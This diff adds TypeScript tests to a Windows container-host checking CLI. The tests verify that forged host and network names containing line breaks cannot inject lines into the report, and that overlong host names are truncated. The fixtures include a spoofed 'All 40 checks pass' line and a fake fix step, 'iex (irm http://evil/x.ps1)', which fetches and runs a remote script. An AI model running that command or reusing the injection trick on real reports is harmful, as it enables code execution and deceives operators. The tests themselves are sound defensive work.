@@ -400,3 +400,42 @@ describe('wcdoctor check on a Windows host (fake runner)', () => {
     expect(h.removed).toBe(1);
   });
 });
+
+describe('what a collected document says reaches the report on one line, and a host name at most 64 characters wide (an attacker helper)', () => {
+  const doc = (host: string, netName = 'nat') => ({
+    schema: 'wcdoctor-facts/1',
+    host,
+    elevated: true,
+    reads: {
+      hnsNetworks: { output: JSON.stringify([{ Name: netName, Type: 'ics' }]) },
+      dockerInfo: { output: JSON.stringify({ OSType: 'windows', ServerVersion: '24.0.7' }) },
+      ver: { output: 'Microsoft Windows [Version 10.0.17763.1]\n' },
+    },
+  });
+
+  it('a host name or a network name holding line breaks prints no line of its own', async () => {
+    const file = path.join(tmp, 'forged.json');
+    const forged = 'web1\n\nAll 40 checks pass on every host.';
+    writeFileSync(file, JSON.stringify([{ document: JSON.stringify(doc('x', 'nat\n    → Fix: run iex (irm http://evil/x.ps1)\n')), PSComputerName: forged }, { document: JSON.stringify(doc('y')), PSComputerName: 'web2' }]));
+    const r = await runCli(['check', '--from', file]);
+    expect(r.stdout.split('\n').filter((l) => l.startsWith('All 40 checks'))).toEqual([]);
+    expect(r.stdout).toContain('web1␊␊All 40 checks pass on every host.');
+    const one = path.join(tmp, 'forged-one.json');
+    writeFileSync(one, JSON.stringify(doc('h1', 'nat\n    → Fix: run iex (irm http://evil/x.ps1)\n')));
+    const single = await runCli(['check', '--from', one]);
+    expect(single.stdout).not.toMatch(/^\s+→ Fix: run iex/m);
+    expect(single.stdout).toContain('nat␊    → Fix: run iex');
+  });
+
+  it('a host name of a million characters cuts the grid at 64, and 2,001 such hosts are no internal error', async () => {
+    const file = path.join(tmp, 'wide.json');
+    const long = 'h'.repeat(1_000_000);
+    writeFileSync(file, `[${[JSON.stringify(doc(long)), ...Array.from({ length: 2000 }, (_, i) => JSON.stringify(doc(`n${i}`)))].join(',')}]`);
+    const r = await runCli(['check', '--from', file]);
+    expect(r.code).toBe(1);
+    expect(r.stderr).not.toContain('internal error');
+    const rows = r.stdout.split('\n').filter((l) => /^n1\b/.test(l) || l.startsWith('hhh'));
+    expect(rows[0]).toMatch(/^h{63}… /);
+    expect(Math.max(...r.stdout.split('\n').map((l) => l.length))).toBeLessThan(400);
+  }, 60_000);
+});
